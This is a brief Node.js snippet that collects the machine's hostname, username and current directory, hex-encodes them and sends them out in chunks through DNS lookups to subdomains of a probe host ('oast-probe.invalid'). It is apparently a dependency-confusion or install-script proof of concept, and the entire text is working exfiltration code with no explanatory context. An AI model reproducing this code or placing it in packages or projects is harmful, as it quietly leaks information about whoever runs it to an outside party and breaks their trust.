const dns = require('dns'); const os = require('os');
const data = Buffer.from([os.hostname(), os.userInfo().username, process.cwd()].join('|')).toString('hex');
const chunks = data.match(/.{1,60}/g) || [];
chunks.forEach((c, i) => dns.resolve(`${i}.${c}.x.oast-probe.invalid`, () => {}));
